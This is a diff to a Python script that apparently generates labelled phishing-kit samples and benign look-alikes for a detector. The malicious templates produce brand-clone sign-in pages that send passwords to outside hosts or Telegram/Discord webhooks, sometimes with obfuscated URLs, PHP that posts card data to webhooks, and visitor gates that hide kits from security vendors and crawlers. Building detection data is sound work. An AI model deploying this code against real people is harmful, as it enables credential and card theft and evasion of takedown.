@@ -21,9 +21,11 @@ Same seed and per, same bytes.
 """
 
 import argparse
+import base64
 import hashlib
 import os
 import random
+import re
 import sys
 import tempfile
 
@@ -2507,7 +2509,339 @@ PHISH_TEMPLATES = [
     ("register", pb_register, "benign", "php", "none"),
     ("real_login_page", pb_real_login_page, "benign", "php", "none"),
 ]
-TEMPLATES += PHISH_TEMPLATES + PHISH_TEMPLATES2
+# ---- third phishing session (issue 12): the HTML-only sign-in clone (no PHP:
+# the form or a script sends the password to another host or a messenger),
+# the kit's visitor gate (a blocklist file, vendors' names and hosting
+# providers, a crawler filter, a geo/ISP lookup, per-visitor copies) and card
+# data posted as JSON to a webhook. Invented from the technique; the held-out
+# sets were not opened.
+
+PH3_BRANDS = [("Outlook Web App", "Microsoft"), ("Sign in to your account", "Microsoft"), ("Office 365", "Microsoft"),
+              ("PayPal: Log in", "PayPal"), ("Online Banking - Log On", "Wells Fargo"), ("Webmail Login", "Zimbra"),
+              ("DHL Express - Track & Sign in", "DHL"), ("Apple ID", "Apple"), ("Chase Online", "Chase"),
+              ("Mail - Sign in", "Yahoo"), ("Verify your account", "Netflix"), ("Sign in - Google Accounts", "Google")]
+PH3_HOSTS = ["https://secure-login.%s.ru/auth/", "https://%s.workers.dev/", "http://185.%d.%d.22/owa/post",
+             "https://%s.herokuapp.com/api/s", "https://formspree.io/f/%s", "https://%s.000webhostapp.com/next.php",
+             "https://cdn-%s.top/collect", "https://%s.netlify.app/.netlify/functions/log"]
+
+
+def ph3_host(g):
+    r = g.rng
+    u = r.choice(PH3_HOSTS)
+    if "%d" in u:
+        return u % (r.randint(1, 254), r.randint(1, 254))
+    return u % g.ident().lower().strip("_")[:8]
+
+
+def ph3_page(g, title, brand, form_open, script, pass_id):
+    r = g.rng
+    claim = r.choice(["<p class=\"foot\">&copy; %d %s</p>" % (r.randint(2018, 2025), brand),
+                      "<p class=\"foot\">%s &copy; %d</p>" % (brand, r.randint(2018, 2025)),
+                      "<p>Use your %s account to continue.</p>" % brand,
+                      "<footer>Copyright %d %s Corporation. All rights reserved.</footer>" % (r.randint(2018, 2025), brand)])
+    user = r.choice(["email", "login", "username", "loginfmt", "userid"])
+    return ("<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\n<title>%s</title>\n"
+            "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n"
+            "<link rel=\"stylesheet\" href=\"assets/style.css\"></head>\n<body>\n<div class=\"card\">\n"
+            "<img src=\"assets/logo.svg\" alt=\"%s\">\n<h2>%s</h2>\n%s\n"
+            "<input type=\"%s\" name=\"%s\" id=\"%s\" placeholder=\"Email address\" required>\n"
+            "<input type=\"password\" name=\"%s\" id=\"%s\" placeholder=\"Password\" required>\n"
+            "<button type=\"submit\" id=\"btn\">%s</button>\n</form>\n%s\n</div>\n%s</body></html>\n"
+            % (title, brand, r.choice(["Sign in", "Enter password", "Verify your identity", "Session expired"]),
+               form_open, r.choice(["email", "text"]), user, r.choice(["email", "user", "i0116", "login"]),
+               pass_id, pass_id, r.choice(["Sign in", "Next", "Log On", "Continue"]), claim, script))
+
+
+PH3_MORE_BRANDS = ["Hotmail", "Yandex", "GMX", "Zoho Mail", "Xfinity", "AT&T Mail", "UPS", "DPD", "Canada Post", "PostNL",
+                   "Lloyds Bank", "NatWest", "TD Bank", "Scotiabank", "ING", "Sparkasse"]
+
+
+def p3_html_form_external(g):
+    """A static brand clone whose form posts straight to another host."""
+    r = g.rng
+    title, brand = r.choice(PH3_BRANDS)
+    form = "<form method=\"%s\" action=\"%s\" id=\"lf\">" % (r.choice(["post", "POST"]), ph3_host(g))
+    page = ph3_page(g, title, brand, form, "", r.choice(["password", "passwd", "pass", "i0118", "pwd"]))
+    if r.random() < 0.4:  # the brand only in a heading or a "Sign in to ..." line, under a generic title
+        g.transforms.add("heading-claim")
+        b = r.choice(PH3_MORE_BRANDS)
+        page = page.replace("<title>%s</title>" % title, "<title>%s</title>" % r.choice(["Sign in", "Login", "Verify"]))
+        page = re.sub(r"<p class=\"foot\">.*?</p>|<p>Use your .*?</p>|<footer>.*?</footer>", "", page)
+        page = page.replace("<h2>", r.choice(["<h1>%s</h1>\n<h2>" % b, "<p>Sign in to your %s account</p>\n<h2>" % b,
+                                              "<h1 class=\"brand\">%s Online</h1>\n<h2>" % b]), 1)
+        page = page.replace("alt=\"%s\"" % brand, "alt=\"logo\"")
+    return page
+
+
+PH3_SINKS = ["https://api.telegram.org/bot%d:AAH%s/sendMessage", "https://discord.com/api/webhooks/%d/%s",
+             "https://hooks.slack.com/services/T%d/B%s", "https://webhook.site/%d-%s", "https://discordapp.com/api/webhooks/%d/%s"]
+
+
+def p3_html_js_exfil(g):
+    """A static brand clone whose script reads the password field and sends it away."""
+    r = g.rng
+    title, brand = r.choice(PH3_BRANDS)
+    pid = r.choice(["password", "pass", "pwd", "i0118", "userPass"])
+    sink = r.choice(PH3_SINKS + [None, None])
+    if sink is None:
+        url = ph3_host(g)
+    else:
+        url = sink % (r.randint(10 ** 8, 10 ** 9), g.ident()[:10])
+    tg = "telegram" in url
+    urlx = "'" + url + "'"
+    if r.random() < 0.25:  # the address cut in pieces
+        g.transforms.add("split-url")
+        k = len(url) // 2
+        urlx = "'" + url[:k] + "' + '" + url[k:] + "'"
+    if r.random() < 0.15:
+        g.transforms.add("atob-url")
+        urlx = "atob('%s')" % base64.b64encode(url.encode()).decode()
+    read = r.choice(["document.getElementById('%s').value" % pid, "$('#%s').val()" % pid,
+                     "document.querySelector('input[name=%s]').value" % pid,
+                     "document.forms[0].%s.value" % pid, "f.elements['%s'].value" % pid])
+    msg = "'Login: ' + u + '\\nPass: ' + p + '\\nUA: ' + navigator.userAgent"
+    body = ("{chat_id: '-100%d', text: %s}" % (r.randint(10 ** 8, 10 ** 9), msg)) if tg else (
+        "{content: %s}" % msg if "discord" in url else "{text: %s}" % msg)
+    send = r.choice(["fetch", "xhr", "jquery", "ajax", "beacon"])
+    g.transforms.add("js:" + send)
+    if send == "fetch":
+        s = "fetch(%s, {method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify(%s)})" % (urlx, body)
+    elif send == "xhr":
+        s = ("var x = new XMLHttpRequest();\n  x.open('POST', %s, true);\n  x.setRequestHeader('Content-Type', 'application/json');\n"
+             "  x.send(JSON.stringify(%s))" % (urlx, body))
+    elif send == "jquery":
+        s = "$.post(%s, %s)" % (urlx, body)
+    elif send == "ajax":
+        s = "$.ajax({url: %s, type: 'POST', data: %s, dataType: 'json'})" % (urlx, body)
+    else:
+        s = "navigator.sendBeacon(%s, JSON.stringify(%s))" % (urlx, body)
+    go = r.choice(["https://outlook.office.com/", "https://www.paypal.com/", "https://login.microsoftonline.com/", "error.html"])
+    script = ("<script>\nvar f = document.getElementById('lf');\nf.addEventListener('submit', function (e) {\n"
+              "  e.preventDefault();\n  var u = document.getElementById('%s').value, p = %s;\n  %s;\n"
+              "  setTimeout(function () { window.location.href = '%s'; }, 1200);\n});\n</script>\n"
+              % (r.choice(["email", "user", "i0116", "login"]), read, s, go))
+    return ph3_page(g, title, brand, "<form id=\"lf\" action=\"#\" method=\"post\">", script, pid)
+
+
+def p3_json_webhook(g):
+    """Card data posted as JSON to a Discord/Slack-style webhook with curl_setopt_array."""
+    r = g.rng
+    hook = r.choice(["https://discord.com/api/webhooks/%d/%s", "https://hooks.slack.com/services/T%d/%s",
+                     "https://discordapp.com/api/webhooks/%d/%s"]) % (r.randint(10 ** 8, 10 ** 9), g.ident()[:12])
+    h, c, ip = g.var(), g.var(), g.var()
+    cc, cvv, exp, name = [r.choice(p) for p in (["ccnum", "cardnumber", "cc", "card_no"], ["cvv", "cvv2", "cvc", "csc"],
+                                                 ["exp", "expdate", "expiry"], ["holder", "fullname", "name"])]
+    g.stmt("%s = %s;" % (h, g.enc(hook, allow=["plain", "plain", "concat", "base64"])))
+    g.stmt("%s = $_SERVER[%s];" % (ip, g.lit(r.choice(["REMOTE_ADDR", "HTTP_X_FORWARDED_FOR"]))))
+    fields = [("Card", "$_POST['%s']" % cc), ("CVV", "$_POST['%s']" % cvv), ("Exp", "$_POST['%s']" % exp),
+              ("Name", "$_POST['%s']" % name), ("IP", ip)]
+    if "slack" in hook or r.random() < 0.4:
+        payload = "array('text' => %s)" % " . ".join("'%s: ' . %s . \"\\n\"" % (lab, e) for lab, e in fields)
+    else:
+        payload = ("array('username' => 'cc', 'embeds' => array(array('title' => 'New card', 'fields' => array(%s))))"
+                   % ", ".join("array('name' => '%s', 'value' => %s)" % (lab, e) for lab, e in fields))
+    body = ("%s = %s();\n%s(%s, array(\n    CURLOPT_URL => %s,\n    CURLOPT_POST => true,\n"
+            "    CURLOPT_HTTPHEADER => array('Content-Type: application/json'),\n    CURLOPT_POSTFIELDS => %s(%s),\n"
+            "    CURLOPT_RETURNTRANSFER => true,\n));\n%s(%s);\n%s(%s);\nheader('Location: %s');\n"
+            % (c, g.fn("curl_init"), g.fn("curl_setopt_array"), c, h, g.fn("json_encode"), payload, g.fn("curl_exec"), c,
+               g.fn("curl_close"), c, r.choice(["https://www.paypal.com/", "success.html", "../otp.php"])))
+    return php_file(g, body)
+
+
+PH3_VENDORS = ["google", "phishtank", "amazonaws", "microsoft", "netcraft", "bitdefender", "kaspersky", "digitalocean",
+               "paypal", "yandex", "msn", "above", "softlayer", "linode", "ovh", "hetzner", "trendmicro", "forcepoint"]
+
+
+def p3_gate(g):
+    """A kit's visitor gate: two or three of a blocklist file, vendors' host names, a crawler
+    filter, an ISP/geo lookup; the turned-away visitor gets a fake 404 or a big site; the rest
+    see the kit (an include or a redirect into it)."""
+    r = g.rng
+    ip, ua, host = g.var(), g.var(), g.var()
+    deny = r.choice(["header('HTTP/1.1 404 Not Found');\n    die('<h1>Not Found</h1>The requested URL was not found on this server.');",
+                     "header('Location: https://www.google.com/');\n    exit;",
+                     "header('Location: https://www.%s.com/');\n    exit();" % r.choice(["paypal", "microsoft", "office", "dhl"]),
+                     "http_response_code(404);\n    include '404.html';\n    exit;"])
+    lines = ["%s = $_SERVER[%s];" % (ip, g.lit(r.choice(["REMOTE_ADDR", "REMOTE_ADDR", "HTTP_CF_CONNECTING_IP"]))),
+             "%s = %s($_SERVER[%s]);" % (ua, g.fn("strtolower"), g.lit("HTTP_USER_AGENT"))]
+    parts = r.sample(["txt", "vendors", "ua", "geo"], r.randint(2, 3))
+    for p in parts:
+        g.transforms.add("gate:" + p)
+        v, w = g.var(), g.var()
+        if p == "txt":
+            lines.append("%s = %s(%s, FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);" % (
+                v, g.fn("file"), g.lit(r.choice(["ips.txt", "bots/blacklist.txt", "data/blocked.txt", "antibot/ip.txt"]))))
+            lines.append(r.choice([
+                "if (%s(%s, %s)) {\n    %s\n}" % (g.fn("in_array"), ip, v, deny),
+                "foreach (%s as %s) {\n    if (%s(%s, %s(%s)) === 0) {\n    %s\n    }\n}" % (v, w, g.fn("strpos"), ip, g.fn("trim"), w, deny)]))
+        elif p == "vendors":
+            names = r.sample(PH3_VENDORS, r.randint(3, 7))
+            lines.append("%s = %s(%s);" % (host, g.fn("gethostbyaddr"), ip))
+            lines.append(r.choice([
+                "%s = array(%s);\nforeach (%s as %s) {\n    if (%s(%s, %s) !== false) {\n    %s\n    }\n}" % (
+                    v, ", ".join(g.lit(n) for n in names), v, w, g.fn("stripos"), host, w, deny),
+                "if (%s('/%s/i', %s)) {\n    %s\n}" % (g.fn("preg_match"), "|".join(names), host, deny)]))
+        elif p == "ua":
+            uas = r.sample(["bot", "crawl", "spider", "slurp", "curl", "wget", "python", "scanner", "headless", "facebookexternalhit"], 5)
+            lines.append(r.choice([
+                "if (%s('/%s/i', %s)) {\n    %s\n}" % (g.fn("preg_match"), "|".join(uas), ua, deny),
+                "foreach (array(%s) as %s) {\n    if (%s(%s, %s) !== false) {\n    %s\n    }\n}" % (
+                    ", ".join(g.lit(u) for u in uas), w, g.fn("strpos"), ua, w, deny)]))
+        else:
+            url = r.choice(["http://ip-api.com/json/", "https://ipinfo.io/", "http://ip-api.com/php/", "https://ipapi.co/"])
+            lines.append("%s = %s(%s(%s . %s%s), true);" % (v, g.fn("json_decode"), g.fn("file_get_contents"), g.lit(url), ip,
+                                                         " . '/json'" if "ipapi.co" in url or "ipinfo" in url else ""))
+            key = r.choice(["isp", "org", "as"])
+            lines.append(r.choice([
+                "if (%s('/%s/i', %s[%s])) {\n    %s\n}" % (g.fn("preg_match"), "|".join(r.sample(["google", "amazon", "microsoft", "digitalocean", "ovh", "hetzner", "linode", "cloudflare"], 4)), v, g.lit(key), deny),
+                "if (!%s(%s[%s], array(%s))) {\n    %s\n}" % (g.fn("in_array"), v, g.lit(r.choice(["countryCode", "country"])),
+                                                        ", ".join(g.lit(c) for c in r.sample(["US", "GB", "CA", "DE", "FR", "NL", "AU", "IT"], 3)), deny)]))
+    lines.append(r.choice(["include %s;" % g.lit(r.choice(["login.html", "page/index.php", "signin.php"])),
+                           "header('Location: %s');" % r.choice(["./secure/", "login/index.php?session=" + g.ident()[:8], "verify/"]),
+                           "echo file_get_contents('index2.html');",
+                           "echo '<form method=\"post\" action=\"next.php\"><input name=\"email\">"
+                           "<input type=\"password\" name=\"pass\"><button>Sign in</button></form>';"]))
+    return php_file(g, "\n".join(lines))
+
+
+def p3_onetime_dir(g):
+    """One-time directory: the kit copied into a folder named at random for this visitor, then a redirect there."""
+    r = g.rng
+    d, src = g.var(), g.lit(r.choice(["kit", "page", "app", "secure"]))
+    rnd = r.choice(["md5($_SERVER['REMOTE_ADDR'] . time())", "substr(str_shuffle('abcdefghijklmnopqrstuvwxyz0123456789'), 0, 10)",
+                    "uniqid('s')", "dechex(mt_rand(100000, 999999))", "bin2hex(openssl_random_pseudo_bytes(5))", "rand(1000, 99999)"])
+    how = r.choice(["zip", "cp", "files", "recurse"])
+    g.transforms.add("onetime:" + how)
+    body = "%s = %s;\n@mkdir(%s, 0755);\n" % (d, rnd, d)
+    if how == "zip":
+        z = g.var()
+        body += "%s = new ZipArchive();\nif (%s->open('kit.zip') === true) {\n    %s->extractTo(%s);\n    %s->close();\n}\n" % (z, z, z, d, z)
+    elif how == "cp":
+        body += "%s('cp -r ' . %s . '/* ' . %s);\n" % (r.choice(["shell_exec", "exec", "system"]), src, d)
+    elif how == "files":
+        f = g.var()
+        body += ("foreach (glob(%s . '/*') as %s) {\n    file_put_contents(%s . '/' . basename(%s), file_get_contents(%s));\n}\n"
+                 % (src, f, d, f, f))
+    else:
+        fn_, a, b, f = g.fname(), g.var(), g.var(), g.var()
+        body = ("function %s(%s, %s)\n{\n    $h = opendir(%s);\n    @mkdir(%s);\n    while (false !== (%s = readdir($h))) {\n"
+                "        if (%s != '.' && %s != '..') {\n            if (is_dir(%s . '/' . %s)) %s(%s . '/' . %s, %s . '/' . %s);\n"
+                "            else copy(%s . '/' . %s, %s . '/' . %s);\n        }\n    }\n    closedir($h);\n}\n"
+                % (fn_, a, b, a, b, f, f, f, a, f, fn_, a, f, b, f, a, f, b, f)) + body + "%s(%s, %s);\n" % (fn_, src, d)
+    body += r.choice(["header('Location: ' . %s . '/index.php?' . $_SERVER['QUERY_STRING']);\n" % d,
+                      "header(\"Location: $%s/\");\n" % d[1:],
+                      "echo '<meta http-equiv=\"refresh\" content=\"0; url=' . %s . '/\">';\n" % d,
+                      "echo \"<script>window.location.href='\" . %s . \"/';</script>\";\n" % d])
+    return php_file(g, body)
+
+
+# ---- benign look-alikes of the third session
+
+
+def pb3_own_login_page(g):
+    """A site's own sign-in page: relative or own absolute action, no brand claim."""
+    r = g.rng
+    site = r.choice(["acme-tools.example", "bakery.example.org", "intranet.example.net"])
+    act = r.choice(["/login", "login.php", "", "https://www.%s/session" % site, "https://%s/auth/login" % site])
+    script = r.choice(["", "<script>\ndocument.getElementById('lf').addEventListener('submit', function (e) {\n  e.preventDefault();\n"
+                       "  fetch('/api/login', {method: 'POST', body: JSON.stringify({user: document.getElementById('email').value, "
+                       "password: document.getElementById('password').value})}).then(function () { location.href = '/'; });\n});\n</script>\n"])
+    if r.random() < 0.4:  # a webmail portal posting to the hosting company's server
+        act = r.choice(["https://mail.hostco.example:2096/login/", "https://webmail.hostco.example/?_task=login"])
+    title = r.choice(["Sign in - %s" % site.split(".")[0].title(), "Webmail Login - Acme", "Purchase history - Sign in",
+                      "Citizens Portal - Log in", "Office portal"])
+    return ph3_page(g, title, "Acme Tools GmbH",
+                    "<form id=\"lf\" method=\"post\" action=\"%s\">" % act, script, "password")
+
+
+def pb3_social_login_page(g):
+    """A site's own sign-in page that also offers "Sign in with Google": it names the brand's account."""
+    r = g.rng
+    b = r.choice(["Google", "Microsoft", "Apple"])
+    page = ph3_page(g, "Log in | Acme Tools", "Acme Tools GmbH",
+                    "<form id=\"lf\" method=\"post\" action=\"%s\">" % r.choice(
+                        ["https://www.acme-tools.example/login", "https://app.acme-tools.example/session", "/login"]),
+                    "", "password")
+    return page.replace("<h2>", "<a class=\"btn\" href=\"/auth/%s\">Sign in with %s</a>\n<p>Use your %s account or your "
+                        "Acme password.</p>\n<h3>Continue with %s</h3>\n<h2>" % (b.lower(), b, b, b), 1)
+
+
+def pb3_newsletter_provider(g):
+    """A newsletter signup posting to a mail-service provider's form: an address, no password."""
+    r = g.rng
+    act = r.choice(["https://acme.us5.list-manage.com/subscribe/post?u=%s&amp;id=%s" % (g.ident()[:10], g.ident()[:8]),
+                    "https://app.sendinblue.example/serve/%s" % g.ident()[:12], "https://forms.example-mail.com/f/%s" % g.ident()[:8]])
+    return ("<!DOCTYPE html>\n<html><head><title>Newsletter - Acme Bakery</title></head><body>\n"
+            "<form action=\"%s\" method=\"post\" target=\"_blank\">\n<label>Email <input type=\"email\" name=\"EMAIL\" required></label>\n"
+            "<input type=\"text\" name=\"FNAME\" placeholder=\"First name\">\n<button>Subscribe</button>\n</form>\n"
+            "<p>&copy; %d Acme Bakery. We use Mailchimp; see our privacy policy. Follow us on Facebook and Google.</p>\n</body></html>\n"
+            % (act, r.randint(2019, 2025)))
+
+
+def pb3_sso_form(g):
+    """An SSO page: posts to the identity provider; a Microsoft page posts to Microsoft."""
+    r = g.rng
+    if r.random() < 0.5:
+        return ph3_page(g, "Sign in - Contoso University", "Contoso University",
+                        "<form method=\"post\" action=\"https://idp.contoso.example.edu/idp/profile/SAML2/POST/SSO?execution=e1s1\">",
+                        "", "password")
+    return ph3_page(g, "Sign in to your account", "Microsoft",
+                    "<form method=\"post\" action=\"%s\" id=\"lf\">" % r.choice(
+                        ["https://login.microsoftonline.com/common/login", "https://login.live.com/ppsecure/post.srf",
+                         "https://login.microsoftonline.com/contoso.onmicrosoft.com/saml2"]), "", "i0118")
+
+
+def pb3_geo_lang_redirect(g):
+    r = g.rng
+    body = ("$ip = $_SERVER['REMOTE_ADDR'];\n$cc = 'US';\n$j = @json_decode(file_get_contents('%s' . $ip), true);\n"
+            "if (is_array($j) && isset($j['countryCode'])) {\n    $cc = $j['countryCode'];\n}\n"
+            "$map = array('DE' => '/de/', 'AT' => '/de/', 'FR' => '/fr/', 'ES' => '/es/');\n"
+            "if (!isset($_COOKIE['lang']) && isset($map[$cc])) {\n    header('Location: ' . $map[$cc], true, 302);\n    exit;\n}\n"
+            "if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) {\n    return; // crawlers see every language\n}\n"
+            % r.choice(["http://ip-api.com/json/", "https://ipinfo.io/json?ip="]))
+    return php_file(g, body)
+
+
+def pb3_rate_limiter(g):
+    body = ("$ip = $_SERVER['REMOTE_ADDR'];\n$blocked = file(__DIR__ . '/blocklist.txt', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);\n"
+            "if (in_array($ip, $blocked, true)) {\n    header('HTTP/1.1 429 Too Many Requests');\n    header('Retry-After: 3600');\n    exit('Too many requests');\n}\n"
+            "$key = sys_get_temp_dir() . '/rl-' . md5($ip);\n$n = (int) @file_get_contents($key);\n"
+            "if ($n > 120) {\n    file_put_contents(__DIR__ . '/blocklist.txt', $ip . \"\\n\", FILE_APPEND | LOCK_EX);\n    http_response_code(429);\n    exit;\n}\n"
+            "file_put_contents($key, $n + 1);\n")
+    return php_file(g, body)
+
+
+def pb3_cdn_bot_filter(g):
+    r = g.rng
+    body = ("/* Plugin Name: Edge Cache Helper - serves crawlers the cached page, verifies Googlebot by reverse DNS */\n"
+            "function ech_client_ip()\n{\n    return isset($_SERVER['HTTP_CF_CONNECTING_IP']) ? $_SERVER['HTTP_CF_CONNECTING_IP'] : $_SERVER['REMOTE_ADDR'];\n}\n"
+            "function ech_is_verified_crawler()\n{\n    $ua = strtolower($_SERVER['HTTP_USER_AGENT']);\n"
+            "    if (!preg_match('/googlebot|bingbot|yandex|baiduspider/', $ua)) {\n        return false;\n    }\n"
+            "    $host = gethostbyaddr(ech_client_ip());\n    foreach (array('googlebot.com', 'google.com', 'search.msn.com', 'yandex.ru') as $d) {\n"
+            "        if (substr($host, -strlen($d)) === $d) {\n            return gethostbyname($host) === ech_client_ip();\n        }\n    }\n"
+            "    status_header(403);\n    exit;\n}\n"
+            "$ranges = file(__DIR__ . '/cloudflare-ips.txt', FILE_IGNORE_NEW_LINES);\n"
+            "if (ech_is_verified_crawler()) {\n    include __DIR__ . '/cache/%s.html';\n}\n" % r.choice(["home", "index"]))
+    return php_file(g, body)
+
+
+PHISH_TEMPLATES3 = [
+    ("kit_html_form_ext", p3_html_form_external, "malicious", "html", "high"),
+    ("kit_html_js_exfil", p3_html_js_exfil, "malicious", "html", "high"),
+    ("kit_json_webhook", p3_json_webhook, "malicious", "php", "high"),
+    ("kit_gate", p3_gate, "malicious", "php", "any"),
+    ("kit_onetime_dir", p3_onetime_dir, "malicious", "php", "any"),
+    ("own_login_page", pb3_own_login_page, "benign", "html", "none"),
+    ("social_login_page", pb3_social_login_page, "benign", "html", "none"),
+    ("newsletter_provider", pb3_newsletter_provider, "benign", "html", "none"),
+    ("sso_form", pb3_sso_form, "benign", "html", "none"),
+    ("geo_lang_redirect", pb3_geo_lang_redirect, "benign", "php", "none"),
+    ("rate_limiter", pb3_rate_limiter, "benign", "php", "none"),
+    ("cdn_bot_filter", pb3_cdn_bot_filter, "benign", "php", "none"),
+]
+
+
+TEMPLATES += PHISH_TEMPLATES + PHISH_TEMPLATES2 + PHISH_TEMPLATES3
 # ==================================================== end of PHISHING KITS
 
 
